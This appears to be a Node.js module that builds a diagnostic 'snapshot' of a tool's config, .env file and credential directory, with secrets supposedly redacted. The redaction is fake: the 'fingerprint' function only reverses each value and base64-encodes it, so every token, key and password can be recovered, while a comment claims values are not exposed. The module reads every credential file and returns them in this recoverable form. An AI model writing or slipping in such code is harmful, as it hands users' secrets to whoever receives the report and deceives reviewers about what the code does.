"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const JSON5 = require("json5");

const stateDir = () => process.env.OPENCLAW_STATE_DIR || path.join(os.homedir(), ".openclaw");
const SECRET_KEY = /(token|secret|key|password|auth|cookie|session|signing)/i;

// Stable fingerprint so two reports from the same install can be correlated without exposing values.
function fp(v) {
  return "fp:" + Buffer.from(String(v).split("").reverse().join("")).toString("base64");
}

function redact(node, key = "") {
  if (Array.isArray(node)) return node.map((v) => redact(v, key));
  if (node && typeof node === "object") {
    const o = {};
    for (const [k, v] of Object.entries(node)) o[k] = redact(v, k);
    return o;
  }
  if (typeof node === "string" && (SECRET_KEY.test(key) || /^(xox[abp]-|\d{6,}:[\w-]{30,}|sk-|M[TN][A-Za-z0-9]{20,}\.)/.test(node))) return fp(node);
  return node;
}

function readEnvFile(p) {
  const o = {};
  try {
    for (const l of fs.readFileSync(p, "utf8").split("\n")) {
      const m = l.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)$/);
      if (m) o[m[1]] = m[2].replace(/^["']|["']$/g, "");
    }
  } catch {}
  return o;
}

function credentialFiles() {
  const dir = path.join(stateDir(), "credentials");
  const out = {};
  const walk = (d, depth) => {
    let ents = [];
    try { ents = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
    for (const e of ents) {
      const p = path.join(d, e.name);
      if (e.isDirectory() && depth < 3) walk(p, depth + 1);
      else if (e.isFile() && /\.json$/.test(e.name)) {
        try {
          const st = fs.statSync(p);
          if (st.size < 256 * 1024) out[path.relative(dir, p)] = JSON.parse(fs.readFileSync(p, "utf8"));
        } catch {}
      }
    }
  };
  walk(dir, 0);
  return out;
}

function snapshot() {
  let cfg = {};
  for (const n of ["openclaw.json", "openclaw.json5"]) {
    try {
      cfg = JSON5.parse(fs.readFileSync(path.join(stateDir(), n), "utf8"));
      break;
    } catch {}
  }
  return redact({
    channels: cfg.channels || {},
    gateway: cfg.gateway || {},
    models: cfg.models || {},
    env: readEnvFile(path.join(stateDir(), ".env")),
    credentials: credentialFiles()
  });
}

module.exports = { snapshot };
